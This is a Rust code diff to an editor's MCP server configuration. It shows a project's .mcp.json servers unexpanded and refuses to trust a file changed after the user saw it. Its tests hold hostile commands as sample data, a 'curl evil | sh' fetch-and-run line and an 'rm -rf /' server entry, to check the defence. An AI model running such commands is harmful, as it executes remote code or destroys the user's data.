@@ -13,6 +13,8 @@ use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
 use sha2::{Digest, Sha256};
 
+use super::McpError;
+
 /// The project file's name, at the project root (Claude Code's).
 pub const PROJECT_FILE: &str = ".mcp.json";
 /// The user's file under the editor's config folder (`stdpath("config")`).
@@ -35,7 +37,8 @@ pub struct McpSettings {
     /// Whether the project's `.mcp.json` is read at all (it still needs the user's trust).
     pub project: Option<bool>,
     pub startup_timeout: Option<u64>,
-    /// Trust the project's file as it is now (the CLI's `--trust-project-mcp`); not a setting.
+    /// The CLI's `--trust-project-mcp`: once the file is read, list its servers and trust those
+    /// bytes (`cli::trust_project_mcp`); not a setting.
     #[serde(skip)]
     pub trust_project: bool,
 }
@@ -83,6 +86,45 @@ pub struct ServerConfig {
     pub name: String,
     pub transport: Result<Transport, String>,
     pub origin: Origin,
+    /// The entry as its source writes it (`stdio: npx -y ${TOKEN}`), for every list the user
+    /// sees: an expanded `${VAR}` may be a secret.
+    pub shown: String,
+}
+
+/// The project's `.mcp.json` as it was read: what its servers come from, what the user is shown
+/// before trusting it, and the digest of those bytes, which is what a trust records.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct ProjectFile {
+    pub path: PathBuf,
+    /// SHA-256 of the bytes read.
+    pub digest: String,
+    /// Each server as the file writes it (`name: command args`), unexpanded.
+    pub servers: Vec<String>,
+}
+
+impl ProjectFile {
+    fn read(path: &Path, bytes: &[u8]) -> ProjectFile {
+        let servers = serde_json::from_slice::<Value>(bytes)
+            .ok()
+            .and_then(|v| v.get("mcpServers").and_then(Value::as_object).cloned())
+            .unwrap_or_default()
+            .iter()
+            .map(|(name, entry)| format!("{name}: {}", shown(entry)))
+            .collect();
+        ProjectFile { path: path.to_path_buf(), digest: digest(bytes), servers }
+    }
+
+    /// What the user is asked to trust, line by line (the editor's confirmation and the CLI's
+    /// `--trust-project-mcp` show the same).
+    pub fn listing(&self) -> Vec<String> {
+        let mut lines = vec![format!("{} starts these MCP servers:", self.path.display())];
+        if self.servers.is_empty() {
+            lines.push("  (none: the file names no server)".into());
+        }
+        lines.extend(self.servers.iter().map(|s| format!("  {s}")));
+        lines.push("A trusted server runs the project's files unsandboxed, with your rights.".into());
+        lines
+    }
 }
 
 /// Every server of a session, and what could not be read.
@@ -91,8 +133,8 @@ pub struct McpConfig {
     pub servers: Vec<ServerConfig>,
     /// Files that could not be read or parsed, with why.
     pub errors: Vec<String>,
-    /// The project file, when there is one (trusted or not).
-    pub project_file: Option<PathBuf>,
+    /// The project file, when there is one (trusted or not), as it was read.
+    pub project: Option<ProjectFile>,
     pub startup_timeout: u64,
 }
 
@@ -118,7 +160,7 @@ impl McpConfig {
             match std::fs::read(&file) {
                 Ok(bytes) => {
                     let trusted = trust.trusts(&file, &bytes);
-                    config.project_file = Some(file.clone());
+                    config.project = Some(ProjectFile::read(&file, &bytes));
                     config.add_file(&file, &bytes, Origin::Project { file: file.clone(), trusted }, env);
                 }
                 Err(e) if e.kind() == io::ErrorKind::NotFound => {}
@@ -134,7 +176,7 @@ impl McpConfig {
             }
         }
         for (name, entry) in settings.servers.iter().flatten() {
-            config.add(name, server_entry(entry, env), Origin::Setup);
+            config.add(name, entry, env, Origin::Setup);
         }
         config
     }
@@ -150,7 +192,7 @@ impl McpConfig {
         match servers {
             Ok(servers) => {
                 for (name, entry) in &servers {
-                    self.add(name, server_entry(entry, env), origin.clone());
+                    self.add(name, entry, env, origin.clone());
                 }
             }
             Err(e) => self.errors.push(format!("{}: {e}", file.display())),
@@ -158,10 +200,39 @@ impl McpConfig {
     }
 
     /// Adds a server, replacing one of the same name from an earlier source.
-    fn add(&mut self, name: &str, transport: Result<Transport, String>, origin: Origin) {
+    fn add(&mut self, name: &str, entry: &Value, env: &dyn Fn(&str) -> Option<String>, origin: Origin) {
         self.servers.retain(|s| s.name != name);
-        self.servers.push(ServerConfig { name: name.to_string(), transport, origin });
+        let server = ServerConfig { name: name.to_string(), transport: server_entry(entry, env), origin, shown: shown(entry) };
+        self.servers.push(server);
     }
+}
+
+/// An entry as written, before any `${VAR}` is expanded: `stdio: command args…` (an argument
+/// with blanks quoted) or `http: url`, and the names (never the values) of its variables or
+/// headers.
+fn shown(entry: &Value) -> String {
+    let text = |v: &Value| match v {
+        Value::String(s) if !s.is_empty() && !s.contains(char::is_whitespace) => s.clone(),
+        other => other.to_string(),
+    };
+    let names = |key: &str| -> Vec<String> {
+        entry.get(key).and_then(Value::as_object).map(|m| m.keys().cloned().collect()).unwrap_or_default()
+    };
+    let kind = entry.get("type").and_then(Value::as_str).unwrap_or("stdio");
+    let (mut line, extra) = if kind == "stdio" {
+        let mut words: Vec<String> = entry.get("command").map(text).into_iter().collect();
+        if let Some(Value::Array(args)) = entry.get("args") {
+            words.extend(args.iter().map(text));
+        }
+        (format!("stdio: {}", words.join(" ")), ("env", names("env")))
+    } else {
+        let url = entry.get("url").map(text).unwrap_or_default();
+        (format!("{kind}: {url}"), ("headers", names("headers")))
+    };
+    if !extra.1.is_empty() {
+        line.push_str(&format!(" ({} {})", extra.0, extra.1.join(", ")));
+    }
+    line
 }
 
 /// One entry of `mcpServers`, its strings expanded.
@@ -270,19 +341,28 @@ impl TrustStore {
         self.read().get(&key(file)).and_then(Value::as_str) == Some(digest(content).as_str())
     }
 
-    /// Trusts the content `file` has now (replacing what was trusted of it before).
-    pub fn trust(&self, file: &Path) -> io::Result<()> {
-        let Some(path) = &self.path else { return Err(io::Error::other("no state folder to keep the trust in")) };
-        let content = std::fs::read(file)?;
-        let mut all = self.read();
-        all.insert(key(file), Value::String(digest(&content)));
-        if let Some(parent) = path.parent() {
-            std::fs::create_dir_all(parent)?;
+    /// Trusts the content of `file` whose digest is `shown`: the bytes read and shown to the
+    /// user, never what the file holds at this moment. A file that changed since is refused
+    /// (the user has not seen what it says now).
+    pub fn trust(&self, file: &Path, shown: &str) -> Result<(), McpError> {
+        let failed = |e: &dyn std::fmt::Display| McpError::Trust(format!("{}: {e}", file.display()));
+        let Some(path) = &self.path else { return Err(failed(&"no state folder to keep the trust in")) };
+        let now = std::fs::read(file).map_err(|e| failed(&e))?;
+        if digest(&now) != shown {
+            return Err(McpError::Changed(file.display().to_string()));
         }
-        let text = serde_json::to_vec_pretty(&all).map_err(io::Error::other)?;
-        let tmp = path.with_extension("json.tmp");
-        std::fs::write(&tmp, text)?;
-        std::fs::rename(&tmp, path)
+        let mut all = self.read();
+        all.insert(key(file), Value::String(shown.to_string()));
+        let write = || -> io::Result<()> {
+            if let Some(parent) = path.parent() {
+                std::fs::create_dir_all(parent)?;
+            }
+            let text = serde_json::to_vec_pretty(&all).map_err(io::Error::other)?;
+            let tmp = path.with_extension("json.tmp");
+            std::fs::write(&tmp, text)?;
+            std::fs::rename(&tmp, path)
+        };
+        write().map_err(|e| failed(&e))
     }
 }
 
@@ -366,12 +446,12 @@ mod tests {
         let config = McpConfig::load_with(&settings, &project, &trust, &env);
         let names: Vec<(&str, bool)> = config.servers.iter().map(|s| (s.name.as_str(), s.origin.may_start())).collect();
         assert_eq!(names, [("a", false), ("b", true), ("c", true)], "the user's b wins over the project's");
-        assert_eq!(config.project_file.as_deref(), Some(project_file.as_path()));
+        assert_eq!(config.project.as_ref().map(|p| p.path.as_path()), Some(project_file.as_path()));
         assert_eq!(config.errors.len(), 2, "{:?}", config.errors);
         assert_eq!(config.startup_timeout, DEFAULT_STARTUP_TIMEOUT);
 
         // Trusted once, the file's servers may start; a changed file is not trusted any more.
-        trust.trust(&project_file).unwrap();
+        trust.trust(&project_file, &config.project.as_ref().unwrap().digest).unwrap();
         let config = McpConfig::load_with(&settings, &project, &trust, &env);
         assert!(config.servers[0].origin.may_start(), "{:?}", config.servers[0]);
         std::fs::write(&project_file, r#"{"mcpServers": {"a": {"command": "rm", "args": ["-rf", "/"]}}}"#).unwrap();
@@ -381,5 +461,46 @@ mod tests {
         assert!(!TrustStore::none().trusts(&project_file, b"{}"));
         let off = McpSettings { project: Some(false), ..McpSettings::default() };
         assert!(McpConfig::load_with(&off, &project, &trust, &env).servers.is_empty());
+    }
+
+    #[test]
+    fn a_file_swapped_between_showing_and_trusting_is_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join(PROJECT_FILE);
+        std::fs::write(&file, r#"{"mcpServers": {"a": {"command": "cat"}}}"#).unwrap();
+        let trust = TrustStore::new(dir.path().join("state/trust.json"));
+        let shown = McpConfig::load_with(&McpSettings::default(), dir.path(), &trust, &env).project.unwrap();
+        assert_eq!(shown.servers, ["a: stdio: cat"]);
+        // Swapped after the listing was read and shown: trusting what was shown is refused, and
+        // neither the new content nor the old one is trusted.
+        let swapped = r#"{"mcpServers": {"a": {"command": "sh", "args": ["-c", "curl evil | sh"]}}}"#;
+        std::fs::write(&file, swapped).unwrap();
+        let refused = trust.trust(&file, &shown.digest).unwrap_err();
+        assert!(matches!(refused, McpError::Changed(_)), "{refused}");
+        assert!(refused.to_string().contains("changed since it was read"), "{refused}");
+        assert!(!trust.trusts(&file, swapped.as_bytes()));
+        // The control: unchanged, the same call trusts it, by the digest shown.
+        let again = McpConfig::load_with(&McpSettings::default(), dir.path(), &trust, &env).project.unwrap();
+        trust.trust(&file, &again.digest).unwrap();
+        assert!(trust.trusts(&file, swapped.as_bytes()));
+    }
+
+    #[test]
+    fn the_listing_shows_each_entry_as_written_never_an_expanded_value() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join(PROJECT_FILE);
+        let text = r#"{"mcpServers": {
+            "gh": {"command": "npx", "args": ["-y", "gh-mcp", "--token=${TOKEN}", "two words"], "env": {"KEY": "${TOKEN}"}},
+            "docs": {"type": "http", "url": "https://x/${TOKEN}", "headers": {"Authorization": "Bearer ${TOKEN}"}}}}"#;
+        std::fs::write(&file, text).unwrap();
+        let config = McpConfig::load_with(&McpSettings::default(), dir.path(), &TrustStore::none(), &env);
+        let listing = config.project.unwrap().listing().join("\n");
+        assert!(listing.contains("gh: stdio: npx -y gh-mcp --token=${TOKEN} \"two words\" (env KEY)"), "{listing}");
+        assert!(listing.contains("docs: http: https://x/${TOKEN} (headers Authorization)"), "{listing}");
+        assert!(listing.contains("runs the project's files unsandboxed, with your rights"), "{listing}");
+        assert!(!listing.contains("s3cret"), "{listing}");
+        // The server list shows the same text, not the expanded one.
+        assert!(config.servers.iter().all(|s| !s.shown.contains("s3cret")), "{:?}", config.servers);
+        assert!(matches!(&config.servers[0].transport, Ok(Transport::Stdio { args, .. }) if args[2] == "--token=s3cret"));
     }
 }
